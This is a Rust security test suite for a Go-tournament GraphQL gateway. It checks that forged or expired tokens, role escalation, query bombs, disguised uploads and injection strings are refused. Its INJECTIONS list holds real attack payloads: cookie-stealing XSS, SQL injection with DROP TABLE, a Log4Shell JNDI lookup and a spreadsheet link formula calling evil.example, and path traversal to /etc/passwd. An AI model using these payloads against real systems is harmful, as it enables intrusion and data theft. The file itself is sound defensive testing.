//! The gateway's security suite (issue 6): every case must be refused with the right
//! `extensions.code` and change nothing. Tokens (missing, expired, another key, `alg: none`, wrong
//! issuer or audience, garbage, another scheme), roles (players, partners, federations and referees
//! calling what is not theirs), guarded fields, personal data, abusive documents, uploads that are
//! not images or too large, certificate photos read by others, and injection-shaped strings in every
//! free-text field. Report flooding is refused in `graphql.rs` (it needs a published notice).
//! SQLite, and PostgreSQL when configured.

use base64::Engine;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use qiwang_blackbox::{TestApp, backends, championship_from, preset_with_window, spawn_app};
use qiwang_infra::auth::{Claims, Role};
use serde_json::{Value, json};

fn code(response: &Value) -> String {
    response["errors"][0]["extensions"]["code"]
        .as_str()
        .unwrap_or("<none>")
        .to_owned()
}

async fn post(app: &TestApp, authorization: Option<&str>, body: Value) -> (u16, Value) {
    let mut request = reqwest::Client::new().post(&app.graphql_url).json(&body);
    if let Some(h) = authorization {
        request = request.header("authorization", h);
    }
    let response = request.send().await.expect("gateway reachable");
    let status = response.status().as_u16();
    let body = response.json().await.unwrap_or(Value::Null);
    (status, body)
}

fn claims(role: Role, iss: &str, aud: &str, exp_offset: i64) -> Claims {
    let now = jsonwebtoken::get_current_timestamp() as i64;
    Claims {
        sub: "org-1".into(),
        role,
        platform: None,
        iss: iss.into(),
        aud: aud.into(),
        iat: (now - 60) as u64,
        exp: (now + exp_offset) as u64,
    }
}

fn signed(secret: &[u8], c: &Claims) -> String {
    jsonwebtoken::encode(
        &Header::new(Algorithm::HS256),
        c,
        &EncodingKey::from_secret(secret).expect("key"),
    )
    .expect("encode")
}

/// `alg: none`: a header and claims with an empty signature.
fn unsigned(c: &Claims) -> String {
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    format!(
        "{}.{}.",
        b64.encode(br#"{"alg":"none","typ":"JWT"}"#),
        b64.encode(serde_json::to_vec(c).expect("claims"))
    )
}

/// Every organizer-only (or staff-only) mutation, with arguments that would otherwise be read.
fn privileged_mutations(champ: &str) -> Vec<(&'static str, String)> {
    let c = champ;
    vec![
        ("createFinalEvent", format!(r#"mutation {{ createFinalEvent(input: {{ championshipId: "{c}", eventCode: "men-individual", entrants: [], reason: "x" }}) {{ id }} }}"#)),
        ("disqualifyEntrant", r#"mutation { disqualifyEntrant(input: { eventId: "evt_x", playerId: "p", reason: "x" }) { id } }"#.to_owned()),
        ("decideAppeal", r#"mutation { decideAppeal(input: { eventId: "evt_x", appealId: "a", upheld: true, decision: "x" }) { id } }"#.to_owned()),
        ("freezeTeamStandings", format!(r#"mutation {{ freezeTeamStandings(input: {{ championshipId: "{c}", teamEvent: "men-team", reason: "x" }}) {{ frozen }} }}"#)),
        ("overrideTeamStandings", format!(r#"mutation {{ overrideTeamStandings(input: {{ championshipId: "{c}", teamEvent: "men-team", reason: "x" }}) {{ frozen }} }}"#)),
        ("approveAwards", format!(r#"mutation {{ approveAwards(input: {{ championshipId: "{c}", reason: "x" }}) {{ version }} }}"#)),
        ("overrideAwards", format!(r#"mutation {{ overrideAwards(input: {{ championshipId: "{c}", reason: "x" }}) {{ version }} }}"#)),
        ("recordDeduction", format!(r#"mutation {{ recordDeduction(input: {{ championshipId: "{c}", event: "men-individual", ranking: "open", awardee: "p", yuan: 1, reason: "x" }}) {{ id }} }}"#)),
        ("recordDanHolding", format!(r#"mutation {{ recordDanHolding(input: {{ championshipId: "{c}", playerId: "p", amateurDan: 8, reason: "x" }}) {{ amateurDan }} }}"#)),
        ("openPeriod", format!(r#"mutation {{ openPeriod(period: {{ championshipId: "{c}", stage: "haixuan", period: 1 }}) }}"#)),
        ("closePeriod", format!(r#"mutation {{ closePeriod(period: {{ championshipId: "{c}", stage: "haixuan", period: 1 }}) {{ toStage }} }}"#)),
        ("composeFinalists", format!(r#"mutation {{ composeFinalists(championshipId: "{c}") {{ notice }} }}"#)),
        ("publishNotice", format!(r#"mutation {{ publishNotice(championshipId: "{c}") {{ notice }} }}"#)),
        ("closeNotice", format!(r#"mutation {{ closeNotice(championshipId: "{c}") {{ notice }} }}"#)),
    ]
}

/// Mutations for referees and organizers only.
fn staff_mutations() -> Vec<(&'static str, String)> {
    vec![
        ("pairRound", r#"mutation { pairRound(eventId: "evt_x") { number } }"#.to_owned()),
        ("recordResult", r#"mutation { recordResult(input: { eventId: "evt_x", round: 1, board: 1, result: FIRST_WINS }) { number } }"#.to_owned()),
        ("withdrawEntrant", r#"mutation { withdrawEntrant(input: { eventId: "evt_x", playerId: "p", reason: "x" }) { id } }"#.to_owned()),
    ]
}

/// Every free-text argument of every mutation, with `$t` where the text goes.
const FREE_TEXT_FIELDS: &[(&str, &str)] = &[
    (
        "registerPlayer.name",
        r#"registerPlayer(input: { name: $t, sex: MALE, birthDate: "1990-01-01", residentId: "110101199001010011" }) { id }"#,
    ),
    (
        "updatePlayer.name",
        r#"updatePlayer(input: { id: "pl_x", name: $t }) { id }"#,
    ),
    (
        "linkAccount.accountId",
        r#"linkAccount(input: { playerId: "pl_x", platform: "yizhan", accountId: $t }) { id }"#,
    ),
    (
        "createChampionship.name",
        r#"createChampionship(input: { preset: "go-2025", name: $t }) { id }"#,
    ),
    (
        "addBar.reason",
        r#"addBar(game: GO, idNumber: "110101199001010011", reason: $t) { reason }"#,
    ),
    (
        "registerPair.relationDocument",
        r#"registerPair(input: { championshipId: "c", event: "parent-child-pairs", firstPlayerId: "a", secondPlayerId: "b", relation: PARENT_CHILD, relationDocument: $t }) { id }"#,
    ),
    (
        "withdrawPair.reason",
        r#"withdrawPair(pairId: "p", reason: $t) { id }"#,
    ),
    (
        "verifyPairRelation.reason",
        r#"verifyPairRelation(pairId: "p", verified: false, reason: $t) { id }"#,
    ),
    (
        "publishPairsSeed.seed",
        r#"publishPairsSeed(championshipId: "c", event: "men-pairs", seed: $t) { seed }"#,
    ),
    (
        "enterFinalEvent.unit",
        r#"enterFinalEvent(input: { championshipId: "c", event: "youth", playerId: "p", unit: $t }) { id }"#,
    ),
    (
        "enterFinalEvent.certificateRef",
        r#"enterFinalEvent(input: { championshipId: "c", event: "youth", playerId: "p", unit: "u", certificateRef: $t }) { id }"#,
    ),
    (
        "decideFinalEntry.reason",
        r#"decideFinalEntry(entryId: "e", approve: false, reason: $t) { id }"#,
    ),
    (
        "registerCityTeam.city",
        r#"registerCityTeam(championshipId: "c", city: $t, playerIds: []) { id }"#,
    ),
    (
        "recordFee.paymentRef",
        r#"recordFee(championshipId: "c", playerId: "p", settlement: PAID, paymentRef: $t) { status }"#,
    ),
    (
        "recordFee.reason",
        r#"recordFee(championshipId: "c", playerId: "p", settlement: WAIVED, reason: $t) { status }"#,
    ),
    (
        "recordAttendance.reason",
        r#"recordAttendance(championshipId: "c", playerId: "p", attendance: EXCUSED, reason: $t) { status }"#,
    ),
    (
        "submitWildcard.source",
        r#"submitWildcard(input: { championshipId: "c", event: "men-individual", playerId: "p", source: $t }) { id }"#,
    ),
    (
        "decideWildcard.reason",
        r#"decideWildcard(wildcardId: "w", approve: false, reason: $t) { id }"#,
    ),
    (
        "fileNoticeReport.text",
        r#"fileNoticeReport(championshipId: "c", playerId: "p", text: $t) { reportId }"#,
    ),
    (
        "concludeNoticeReport.reason",
        r#"concludeNoticeReport(input: { reportId: "r", uphold: false, reason: $t }) { state }"#,
    ),
    (
        "concludeNoticeReport.overrideReason",
        r#"concludeNoticeReport(input: { reportId: "r", uphold: true, reason: "r", overrideReason: $t }) { state }"#,
    ),
    (
        "createFinalEvent.name",
        r#"createFinalEvent(input: { championshipId: "c", eventCode: "men-individual", name: $t, entrants: [], reason: "r" }) { id }"#,
    ),
    (
        "createFinalEvent.reason",
        r#"createFinalEvent(input: { championshipId: "c", eventCode: "men-individual", entrants: [], reason: $t }) { id }"#,
    ),
    (
        "recordResult.reason",
        r#"recordResult(input: { eventId: "e", round: 1, board: 1, result: DRAW, reason: $t }) { number }"#,
    ),
    (
        "withdrawEntrant.reason",
        r#"withdrawEntrant(input: { eventId: "e", playerId: "p", reason: $t }) { id }"#,
    ),
    (
        "disqualifyEntrant.reason",
        r#"disqualifyEntrant(input: { eventId: "e", playerId: "p", reason: $t }) { id }"#,
    ),
    (
        "fileAppeal.text",
        r#"fileAppeal(input: { eventId: "e", round: 1, board: 1, playerId: "p", text: $t }) { id }"#,
    ),
    (
        "decideAppeal.decision",
        r#"decideAppeal(input: { eventId: "e", appealId: "a", upheld: false, decision: $t }) { id }"#,
    ),
    (
        "freezeTeamStandings.reason",
        r#"freezeTeamStandings(input: { championshipId: "c", teamEvent: "men-team", reason: $t }) { frozen }"#,
    ),
    (
        "overrideTeamStandings.reason",
        r#"overrideTeamStandings(input: { championshipId: "c", teamEvent: "men-team", reason: $t }) { frozen }"#,
    ),
    (
        "approveAwards.reason",
        r#"approveAwards(input: { championshipId: "c", reason: $t }) { championshipId }"#,
    ),
    (
        "overrideAwards.reason",
        r#"overrideAwards(input: { championshipId: "c", reason: $t }) { championshipId }"#,
    ),
    (
        "recordDeduction.reason",
        r#"recordDeduction(input: { championshipId: "c", event: "e", ranking: "r", awardee: "a", yuan: 1, reason: $t }) { yuan }"#,
    ),
    (
        "recordDanHolding.reason",
        r#"recordDanHolding(input: { championshipId: "c", playerId: "p", amateurDan: 5, reason: $t }) { amateurDan }"#,
    ),
];

/// What an attacker puts into a text field: markup, script URLs, templates, SQL, spreadsheet
/// formulas, path traversal, control and bidirectional-override characters.
const INJECTIONS: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "' OR '1'='1' --",
    "x'); DROP TABLE registration_players; --",
    "${jndi:ldap://evil.example/a}",
    "{{constructor.constructor('return process')()}}",
    "=HYPERLINK(\"http://evil.example\",\"证书\")",
    "../../../../etc/passwd",
    "正常文字\u{202E}gnp.exe",
];

async fn player_count(app: &TestApp, org: &str) -> usize {
    let (_, r) = post(
        app,
        Some(&format!("Bearer {org}")),
        json!({ "query": "{ players(page: { size: 500 }) { players { id } } }" }),
    )
    .await;
    r["data"]["players"]["players"]
        .as_array()
        .map(Vec::len)
        .unwrap_or(usize::MAX)
}

/// Cases run and the ones not refused as they must be.
#[derive(Default)]
struct Tally {
    cases: u32,
    failures: Vec<String>,
}

impl Tally {
    fn expect(&mut self, name: String, got: String, want: &str) {
        self.cases += 1;
        if got != want {
            self.failures.push(format!("{name}: {got}, want {want}"));
        }
    }
}

#[tokio::test]
async fn security_suite_every_case_is_refused_with_its_code_and_changes_nothing() {
    for backend in backends() {
        let app = spawn_app(backend.clone()).await;
        let champ = championship_from(&app, preset_with_window("go-2025", -1, 1)).await;
        let org = app.token(Role::Organizer, "org-1");
        let secret = std::fs::read_to_string(app.settings.data_dir.join("dev-jwt-secret"))
            .expect("dev secret");
        let secret = base64::engine::general_purpose::STANDARD
            .decode(secret.trim())
            .expect("base64");
        let mut t = Tally::default();

        // 1. Tokens: every bad token, on a query and on a mutation.
        let good = claims(Role::Organizer, "qiwang", "qiwang", 600);
        let bad_tokens: Vec<(&str, Option<String>)> = vec![
            ("no token", None),
            (
                "expired",
                Some(format!(
                    "Bearer {}",
                    signed(&secret, &claims(Role::Organizer, "qiwang", "qiwang", -600))
                )),
            ),
            (
                "another key",
                Some(format!(
                    "Bearer {}",
                    signed(b"not-the-deployment-key-0123456789", &good)
                )),
            ),
            ("alg none", Some(format!("Bearer {}", unsigned(&good)))),
            (
                "wrong issuer",
                Some(format!(
                    "Bearer {}",
                    signed(
                        &secret,
                        &claims(Role::Organizer, "someone-else", "qiwang", 600)
                    )
                )),
            ),
            (
                "wrong audience",
                Some(format!(
                    "Bearer {}",
                    signed(
                        &secret,
                        &claims(Role::Organizer, "qiwang", "another-app", 600)
                    )
                )),
            ),
            ("garbage", Some("Bearer not.a.jwt".to_owned())),
            ("basic scheme", Some("Basic b3JnOnB3".to_owned())),
        ];
        let approve = format!(
            r#"mutation {{ approveAwards(input: {{ championshipId: "{champ}", reason: "x" }}) {{ version }} }}"#
        );
        for (name, header) in &bad_tokens {
            for (what, query) in [
                ("query", "{ me { subject } }"),
                ("mutation", approve.as_str()),
            ] {
                let (_, r) = post(&app, header.as_deref(), json!({ "query": query })).await;
                t.expect(format!("{name} / {what}"), code(&r), "UNAUTHENTICATED");
            }
        }
        // The sanity case: the same forged organizer token, correctly signed, is accepted.
        let (_, r) = post(
            &app,
            Some(&format!("Bearer {}", signed(&secret, &good))),
            json!({ "query": "{ me { subject role } }" }),
        )
        .await;
        assert_eq!(r["data"]["me"]["role"], "ORGANIZER", "{backend}: {r}");

        // 2. Roles: players, partners and federations may not decide; referees may not decide
        //    what only organizers decide.
        let player = app.token(Role::Player, "pl_someone");
        let partner = app.token(Role::Partner, "yizhan-bot");
        let federation = app.token(Role::Federation, "cwa");
        let referee = app.token(Role::Referee, "ref-1");
        for (who, token) in [
            ("player", &player),
            ("partner", &partner),
            ("federation", &federation),
        ] {
            for (name, query) in privileged_mutations(&champ)
                .into_iter()
                .chain(staff_mutations())
            {
                let (_, r) = post(
                    &app,
                    Some(&format!("Bearer {token}")),
                    json!({ "query": query }),
                )
                .await;
                t.expect(format!("{who} / {name}"), code(&r), "PERMISSION_DENIED");
            }
        }
        for (name, query) in privileged_mutations(&champ) {
            let (_, r) = post(
                &app,
                Some(&format!("Bearer {referee}")),
                json!({ "query": query }),
            )
            .await;
            t.expect(format!("referee / {name}"), code(&r), "PERMISSION_DENIED");
        }

        // 3. Guarded fields and personal data.
        for (name, query) in [
            ("players list", "{ players { players { id } } }".to_owned()),
            (
                "award decisions",
                format!(r#"{{ awardDecisions(championshipId: "{champ}") {{ action }} }}"#),
            ),
            (
                "notice reports",
                format!(r#"{{ noticeReports(championshipId: "{champ}") {{ reportId }} }}"#),
            ),
        ] {
            let (_, r) = post(
                &app,
                Some(&format!("Bearer {player}")),
                json!({ "query": query }),
            )
            .await;
            t.expect(format!("player / {name}"), code(&r), "PERMISSION_DENIED");
        }
        let (_, registered) = post(
            &app,
            Some(&format!("Bearer {org}")),
            json!({
                "query": "mutation($i: RegisterPlayerInput!) { registerPlayer(input: $i) { id } }",
                "variables": { "i": {
                    "name": "隐私", "sex": "MALE", "birthDate": "1990-01-01",
                    "residentId": qiwang_blackbox::resident_id("19900101", 111),
                    "phone": "13811112222"
                } }
            }),
        )
        .await;
        let other = registered["data"]["registerPlayer"]["id"]
            .as_str()
            .expect("registered")
            .to_owned();
        let (_, r) = post(
            &app,
            Some(&format!("Bearer {player}")),
            json!({ "query": format!(r#"{{ player(id: "{other}") {{ idNumber idMasked phone }} }}"#) }),
        )
        .await;
        t.cases += 1;
        let id_number = r["data"]["player"]["idNumber"].as_str().unwrap_or_default();
        let phone = r["data"]["player"]["phone"].as_str().unwrap_or_default();
        if !(r["data"]["player"]["idMasked"] == true
            && id_number.contains('*')
            && phone.contains('*'))
        {
            t.failures.push(format!(
                "another player's ID number and phone are masked: {r}"
            ));
        }

        // 4. Abusive documents.
        let deep = format!("{{ me {}{} }}", "{ player ".repeat(40), "}".repeat(40));
        let (_, r) = post(
            &app,
            Some(&format!("Bearer {org}")),
            json!({ "query": deep }),
        )
        .await;
        t.cases += 1;
        if r["errors"].is_null() {
            t.failures.push("a 40-deep query was accepted".into());
        }
        let wide: String = (0..300)
            .map(|i| format!("a{i}: championships {{ id name events {{ code }} }} "))
            .collect();
        let (_, r) = post(
            &app,
            Some(&format!("Bearer {org}")),
            json!({ "query": format!("{{ {wide} }}") }),
        )
        .await;
        t.cases += 1;
        if r["errors"].is_null() {
            t.failures
                .push("a 300-alias complexity bomb was accepted".into());
        }
        let directives = format!(
            "{{ me @skip(if: false){} {{ subject }} }}",
            " @include(if: true)".repeat(50)
        );
        let (_, r) = post(
            &app,
            Some(&format!("Bearer {org}")),
            json!({ "query": directives }),
        )
        .await;
        t.cases += 1;
        if r["errors"].is_null() {
            t.failures.push("a 50-directive field was accepted".into());
        }
        let huge = "x".repeat(2 * 1024 * 1024);
        let (status, _) = post(
            &app,
            Some(&format!("Bearer {org}")),
            json!({ "query": "{ me { subject } }", "variables": { "pad": huge } }),
        )
        .await;
        t.expect("2 MiB body".into(), status.to_string(), "413");

        // 5. Uploads and evidence: not images, oversize, for someone else, read by others.
        let owner = app.token(Role::Player, &other);
        let upload =
            "mutation($p: ID!, $f: Upload!) { uploadEvidence(playerId: $p, file: $f) { id } }";
        let vars = json!({ "p": other, "f": null });
        for (what, bytes, content_type) in [
            ("a PDF", b"%PDF-1.7".to_vec(), "application/pdf"),
            (
                "HTML as PNG",
                b"<html><script>x</script></html>".to_vec(),
                "image/png",
            ),
            ("an SVG", b"<svg onload=\"x\"/>".to_vec(), "image/svg+xml"),
            ("a PNG as JPEG", qiwang_blackbox::png_bytes(8), "image/jpeg"),
            ("an empty file", Vec::new(), "image/png"),
        ] {
            let (_, r) = app
                .graphql_upload(
                    Some(&owner),
                    upload,
                    vars.clone(),
                    "variables.f",
                    (bytes, content_type),
                )
                .await;
            t.expect(format!("upload of {what}"), code(&r), "INVALID_ARGUMENT");
        }
        let (status, _) = app
            .graphql_upload(
                Some(&owner),
                upload,
                vars.clone(),
                "variables.f",
                (qiwang_blackbox::png_bytes(3 * 1024 * 1024), "image/png"),
            )
            .await;
        t.expect("a 3 MiB upload".into(), status.to_string(), "413");
        let (_, r) = app
            .graphql_upload(
                Some(&player),
                upload,
                vars.clone(),
                "variables.f",
                (qiwang_blackbox::png_bytes(8), "image/png"),
            )
            .await;
        t.expect(
            "an upload for another player".into(),
            code(&r),
            "PERMISSION_DENIED",
        );
        let (_, stored) = app
            .graphql_upload(
                Some(&owner),
                upload,
                vars,
                "variables.f",
                (qiwang_blackbox::png_bytes(8), "image/png"),
            )
            .await;
        let evidence = stored["data"]["uploadEvidence"]["id"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        for (who, token) in [
            ("another player", player.clone()),
            ("a referee", app.token(Role::Referee, "ref-1")),
            ("a partner", app.token(Role::Partner, "bot")),
            ("a federation", app.token(Role::Federation, "cxa")),
        ] {
            let (_, r) = post(
                &app,
                Some(&format!("Bearer {token}")),
                json!({ "query": "query($e: ID!) { evidence(id: $e) { contentBase64 } }", "variables": { "e": evidence } }),
            )
            .await;
            t.expect(
                format!("{who} reading a player's certificate photo"),
                code(&r),
                "PERMISSION_DENIED",
            );
        }

        // 6. Injection-shaped strings in every free-text field, as literals and as variables. Each
        //    document is first sent with a harmless text: it must get past the guard (any other
        //    outcome is fine), which proves the field exists and the refusal is the guard's.
        let players_before = player_count(&app, &org).await;
        for (field, document) in FREE_TEXT_FIELDS {
            let query = format!("mutation($t: String!) {{ {document} }}");
            let (_, benign) = post(
                &app,
                Some(&format!("Bearer {org}")),
                json!({ "query": query, "variables": { "t": "核查说明" } }),
            )
            .await;
            let benign_code = code(&benign);
            if benign["errors"][0]["extensions"]["reason"] == "INJECTION_SHAPED"
                || benign_code == "GRAPHQL_VALIDATION_FAILED"
            {
                t.failures.push(format!(
                    "{field}: the harmless document was refused: {benign}"
                ));
            }
            for payload in INJECTIONS {
                let (_, r) = post(
                    &app,
                    Some(&format!("Bearer {org}")),
                    json!({ "query": query, "variables": { "t": payload } }),
                )
                .await;
                let reason = r["errors"][0]["extensions"]["reason"]
                    .as_str()
                    .unwrap_or("");
                t.expect(
                    format!("{field} ← {payload:?}"),
                    format!("{}/{reason}", code(&r)),
                    "INVALID_ARGUMENT/INJECTION_SHAPED",
                );
            }
            // The same as a literal in the document itself.
            let literal = document.replace(
                "$t",
                &serde_json::to_string(INJECTIONS[0]).unwrap_or_default(),
            );
            let (_, r) = post(
                &app,
                Some(&format!("Bearer {org}")),
                json!({ "query": format!("mutation {{ {literal} }}") }),
            )
            .await;
            let reason = r["errors"][0]["extensions"]["reason"]
                .as_str()
                .unwrap_or("");
            t.expect(
                format!("{field} ← literal"),
                format!("{}/{reason}", code(&r)),
                "INVALID_ARGUMENT/INJECTION_SHAPED",
            );
        }
        assert_eq!(
            player_count(&app, &org).await,
            players_before,
            "{backend}: a refused registration left a player behind"
        );

        // Nothing changed: no final sections, no award decisions, no frozen standings.
        let (_, state) = post(
            &app,
            Some(&format!("Bearer {org}")),
            json!({ "query": format!(r#"{{
                finalEvents(championshipId: "{champ}") {{ id }}
                awardDecisions(championshipId: "{champ}") {{ action }}
                teamStandings(championshipId: "{champ}", teamEvent: "men-team") {{ frozen }}
            }}"#) }),
        )
        .await;
        assert!(state["errors"].is_null(), "{backend}: {state}");
        assert_eq!(state["data"]["finalEvents"], json!([]), "{backend}");
        assert_eq!(state["data"]["awardDecisions"], json!([]), "{backend}");
        assert_eq!(state["data"]["teamStandings"]["frozen"], false, "{backend}");

        assert!(
            t.failures.is_empty(),
            "{backend}: {} of {} cases not refused as they must be:\n{}",
            t.failures.len(),
            t.cases,
            t.failures.join("\n")
        );
        assert!(t.cases >= 60, "{backend}: only {} cases", t.cases);
        app.stop().await;
    }
}
